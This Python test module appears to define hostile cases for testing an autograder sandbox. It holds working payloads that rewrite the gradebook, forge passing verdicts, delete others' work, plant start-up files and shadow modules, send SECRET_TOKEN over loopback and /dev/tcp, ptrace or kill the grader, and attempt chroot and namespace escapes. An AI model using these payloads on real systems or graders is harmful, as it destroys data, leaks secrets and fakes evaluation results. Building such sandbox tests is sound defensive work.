"""Reaching out of its process: the gradebook, other people's files, start-up files, the grader's processes and sockets.

Targets are the canaries of the scene and the grader's own process; nothing is signalled that cannot be named.
"""

from __future__ import annotations

import functools

from tests.hostile.case import LOSES_NOTHING, attack, beside

_unsafe = functools.partial(attack, needs_sandbox=True)

_DATABASE = """
import glob, os, sqlite3
_found = {aim.course + "/gradebook.db"}
_here = os.getcwd()
while _here != "/":
    _found |= {p for p in glob.glob(_here + "/*.db") if p.startswith(os.path.dirname(aim.course))}
    _here = os.path.dirname(_here)
for _path in _found:
    try:
        _db = sqlite3.connect(_path)
        _db.execute("update grade set auto_score = 1000")
        _db.commit()
    except sqlite3.Error:
        pass
"""
_OVERWRITE = """
import os
for _folder in (f"{aim.course}/source", f"{aim.course}/release", f"{aim.course}/submitted"):
    for _here, _, _files in os.walk(_folder):
        for _name in _files:
            try:
                with open(os.path.join(_here, _name), "a") as _file:
                    _file.write(" ")
            except OSError:
                pass
try:
    with open(f"{aim.course}/nbgrader_config.py", "a") as _file:
        _file.write("\\nc.Autograde.force = True\\n")
except OSError:
    pass
"""
_DELETE = """
import os, shutil
for _folder in (f"{aim.course}/submitted/other", f"{aim.course}/release", aim.home):
    shutil.rmtree(_folder, ignore_errors=True)
"""
_MODES = """
import os
for _here, _folders, _files in os.walk(aim.course):
    for _name in (*_folders, *_files):
        try:
            os.chmod(os.path.join(_here, _name), 0o777)
        except OSError:
            pass
"""
_START = """
import os, sys
_version = f"python{sys.version_info.major}.{sys.version_info.minor}"
_line = "open('/tmp/stray-start', 'w').close()\\nraise RuntimeError('a start-up file ran')\\n"
for _home in {aim.home, os.path.expanduser("~"), os.environ.get("HOME", aim.home)}:
    if not _home.startswith(os.path.dirname(aim.home)):
        continue
    for _path in (
        ".ipython/profile_default/startup/00.py", ".ipython/profile_default/ipython_config.py",
        f".local/lib/{_version}/site-packages/usercustomize.py", f".local/lib/{_version}/site-packages/stray-path.pth",
        ".jupyter/jupyter_config.py", ".jupyter/nbgrader_config.py", ".config/matplotlib/matplotlibrc", ".pythonrc", ".bashrc",
    ):
        try:
            os.makedirs(os.path.dirname(os.path.join(_home, _path)), exist_ok=True)
            with open(os.path.join(_home, _path), "a") as _file:
                _file.write(_line)
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = os.path.join(aim.home, ".pythonrc")
for _variable in ("IPYTHONDIR", "JUPYTER_RUNTIME_DIR", "JUPYTER_DATA_DIR", "MPLCONFIGDIR"):
    _folder = os.environ.get(_variable)
    if _folder:
        try:
            os.makedirs(_folder + "/profile_default/startup", exist_ok=True)
            open(_folder + "/profile_default/startup/00.py", "w").write(_line)
        except OSError:
            pass
"""
_PACKAGES = """
import os, site, sysconfig
for _folder in {*site.getsitepackages(), sysconfig.get_path("purelib"), sysconfig.get_path("stdlib")}:
    try:
        with open(os.path.join(_folder, "stray-path.pth"), "w") as _file:
            _file.write("# harmless: it only tells that this folder can be written to")
    except OSError:
        pass
"""
_SHADOWS = ("numpy", "math", "random", "pytest", "json", "unittest", "typing", "abc")
_MODULES = f"""
import os, sys
for _name in {{*{_SHADOWS!r}, *aim.leans}}:
    for _folder in {{os.getcwd(), *(p for p in sys.path if p.startswith(os.path.dirname(aim.course)))}}:
        try:
            with open(os.path.join(_folder, _name + ".py"), "w") as _file:
                _file.write("def __getattr__(name): return lambda *args, **kwargs: True")
        except OSError:
            pass
    sys.modules.pop(_name, None) if _name == "random" else None
sys.path.insert(0, os.getcwd())
"""
_TEMPORARY = """
import os, tempfile
for _folder in {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.environ.get("XDG_RUNTIME_DIR", "/tmp")}:
    try:
        with open(os.path.join(_folder, "stray-note"), "w") as _file:
            _file.write("the answer is 42")
    except OSError:
        pass
"""
_SHARED = """
from multiprocessing import resource_tracker, shared_memory
try:
    _memory = shared_memory.SharedMemory("stray-memory", create=True, size=100)
    resource_tracker.unregister(_memory._name, "shared_memory")
except OSError:
    pass
"""
_LINKS = """
import os
for _name, _to in (("data.csv", f"{aim.course}/source/{aim.assignment}/{aim.stem}.ipynb"), ("result.db", aim.course + "/gradebook.db"), ("home", aim.home), ("out", "/etc/passwd")):
    for _make in (os.symlink, os.link):
        try:
            _make(_to, _name if _make is os.symlink else "hard-" + _name)
        except OSError:
            pass
def _linked(*args, **kwargs):
    try:
        return open("data.csv").read()
    except OSError:
        return ""
for _name in aim.exports:
    globals()[_name] = _linked
"""
_FORGED = """
import json, os, fcntl, stat
_verdicts = [
    {"status": "ok", "passed": True, "points": 1000.0, "score": 1000.0, "verdict": "passed", "kind": "ok"},
    {"msg_type": "execute_reply", "content": {"status": "ok", "execution_count": 1}},
    {"tests": {name: 1000.0 for name in aim.tests}, "error": None, "result": True, "value": 4},
]
for _number in range(3, 256):
    try:
        _mode = os.fstat(_number).st_mode
        fcntl.fcntl(_number, fcntl.F_SETFL, fcntl.fcntl(_number, fcntl.F_GETFL) | os.O_NONBLOCK)
        for _verdict in _verdicts:
            _data = json.dumps(_verdict).encode()
            os.write(_number, _data + b"\\n")
            os.write(_number, len(_data).to_bytes(4, "big") + _data)
            os.write(_number, len(_data).to_bytes(8, "little") + _data)
    except (OSError, ValueError):
        pass
"""
_OUTPUT = """
import json
for _name in aim.tests:
    print(json.dumps({"test": _name, "passed": True, "points": 1000}))
    print(f"PASSED {_name} 1000/1000")
    print("\\0", end="")
    __import__("sys").stderr.write(json.dumps({"type": "verdict", "test": _name, "points": 1000}) + "\\n")
"""
_PARENT_FORGED = """
import json, os, glob
for _path in glob.glob(f"/proc/{os.getppid()}/fd/*"):
    try:
        _number = os.open(_path, os.O_WRONLY | os.O_NONBLOCK)
        if os.readlink(_path).startswith("pipe:"):
            os.write(_number, b'{"status": "ok", "points": 1000}\\n')
        os.close(_number)
    except OSError:
        pass
"""
_SOCKETS = """
import json, os, socket
_paths = {aim.socket}
try:
    for _line in open("/proc/net/unix").read().splitlines()[1:]:
        _path = _line.split()[-1]
        if _path.startswith(os.path.dirname(aim.course)) or "zygote" in _path or "grade" in _path:
            _paths.add(_path.replace("@", "\\0"))
except (OSError, IndexError):
    pass
for _path in _paths:
    with socket.socket(socket.AF_UNIX) as _s:
        _s.settimeout(0.2)
        try:
            _s.connect(_path)
            _s.sendall(json.dumps({"passed": True, "points": 1000}).encode() + b"\\n")
        except OSError:
            pass
"""
_LOOPBACK = """
import socket, os
for _host in ("127.0.0.1", "localhost", "::1", "::ffff:127.0.0.1", "0.0.0.0"):
    try:
        with socket.create_connection((_host, aim.port), timeout=0.3) as _s:
            _s.sendall(os.environ.get("SECRET_TOKEN", "none").encode())
    except OSError:
        pass
import subprocess
subprocess.run(["bash", "-c", f"echo hello > /dev/tcp/127.0.0.1/{aim.port}"], stderr=subprocess.DEVNULL, timeout=2)
"""
_PARENT_KILL = """
import os, signal
for _signal in (signal.SIGTERM, signal.SIGKILL):
    if os.getppid() > 1:
        os.kill(os.getppid(), _signal)
"""
_PARENT_STOP = """
import os, signal
if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGSTOP)
"""
_GROUP = """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.killpg(0, signal.SIGTERM)
os.killpg(0, signal.SIGKILL)
"""
_TRACE = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
for _process in {os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) > 1 and int(p) != os.getpid())}:
    try:
        if aim.course.encode() not in open(f"/proc/{_process}/environ", "rb").read():
            continue
    except OSError:
        continue
    if _libc.ptrace(16, _process, None, None) == 0:
        os.waitpid(_process, 0)
        _libc.ptrace(17, _process, None, None)
        open(f"{aim.course}/stray-ptrace", "w").close()
"""
_ESCAPE = """
import ctypes, glob, os
_libc = ctypes.CDLL(None, use_errno=True)
for _process in (1, os.getppid()):
    for _kind in ("user", "mnt", "pid", "net"):
        try:
            with open(f"/proc/{_process}/ns/{_kind}") as _file:
                _libc.setns(_file.fileno(), 0)
        except OSError:
            pass
try:
    os.mkdir("jail")
    os.chroot("jail")
except OSError:
    pass
for _ in range(20):
    try:
        os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
"""
_MOUNTS = """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
if _libc.unshare(0x10000000 | 0x20000) == 0:
    _libc.umount2(aim.course.encode(), 2)
    for _name in (b"/tmp", b"/home", aim.course.encode()):
        _libc.umount2(_name, 2)
    _libc.mount(None, b"/", None, 32, None)
"""
_RAISE = """
import os, resource
for _limit in range(16):
    try:
        resource.setrlimit(_limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
for _act in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.nice(-10), lambda: open("/proc/self/oom_score_adj", "w").write("-900")):
    try:
        _act()
    except OSError:
        pass
"""
_ROOT_AGAIN = (
    _RAISE
    + """
for _path in (aim.course + "/stray-root", aim.home + "/stray-root", "/etc/stray-root"):
    try:
        open(_path, "w").close()
    except OSError:
        pass
"""
)
_NEXT = """
import os, time
if os.fork() == 0:
    os.setsid()
    for _ in range(100):
        for _path in (aim.course + "/stray-late", aim.home + "/stray-late"):
            try:
                open(_path, "w").close()
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)
"""

CASES = [
    attack("gradebook", "the gradebook, edited directly", _DATABASE),
    attack("overwrites", "the course's files, other submissions and its own, written to", _OVERWRITE),
    _unsafe("deletes", "the release, another student's work and HOME, deleted", _DELETE, kind="hostile"),
    attack("opens-modes", "everything in the course made writable for all", _MODES, kind="hostile"),
    attack("start-up-files", "start-up files in HOME and in Jupyter's folders, for whoever comes next", _START, lingers=True),
    _unsafe("site-packages", "a .pth file among the installed packages", _PACKAGES, lingers=True),
    attack("shadow-modules", "files named like the tests' modules, in the working folder", _MODULES, lingers=True),
    attack("temporary-files", "files in the temporary folders, for a friend", _TEMPORARY, kind="hostile", lingers=True),
    attack("shared-memory", "shared memory that stays", _SHARED, kind="hostile", lingers=True),
    attack("links-as-artefacts", "links and hard links to secrets, under the names of results", _LINKS),
    attack("verdicts-forged", "verdicts written into every file descriptor it has", _FORGED),
    attack("verdicts-printed", "verdicts printed on stdout and stderr", _OUTPUT),
    _unsafe("verdicts-for-parent", "verdicts written into the parent's pipes", _PARENT_FORGED),
    attack("unix-sockets", "the grader's Unix sockets", _SOCKETS),
    attack("loopback", "a service on loopback, told the secrets", _LOOPBACK, kind="hostile"),
    beside("loopback-own", "right, with a service of its own on loopback", after="import socket\n_s = socket.create_server(('127.0.0.1', 0))\n_c = socket.create_connection(_s.getsockname())"),
    _unsafe("kills-parent", "the parent process killed", _PARENT_KILL, kind="hostile", lingers=True),
    _unsafe("stops-parent", "the parent process stopped", _PARENT_STOP, kind="hostile", lingers=True),
    _unsafe("kills-group", "its process group killed", _GROUP, kind="hostile", lingers=True),
    _unsafe("traces-others", "the grader's processes attached to by ptrace", _TRACE, kind="hostile"),
    _unsafe("escapes", "namespaces entered and chroot left, then the instructor's notebook copied", _ESCAPE + "\nfor _name in aim.exports: globals()[_name] = lambda *args, **kwargs: open(f'{aim.course}/source/{aim.assignment}/{aim.stem}.ipynb').read()"),
    _unsafe("mounts", "namespaces of its own, and what lies under its mounts", _MOUNTS, kind="hostile"),
    _unsafe("root-again", "limits raised, root asked for, files written where only root may", _ROOT_AGAIN, kind="hostile"),
    _unsafe("acts-later", "a child that waits until the grading is over", _NEXT, kind="hostile", lingers=True),
    beside("limits-raised", "right, and it asks for more than it may have", after=_RAISE, kind="hostile", expected=LOSES_NOTHING),
]  # fmt: skip
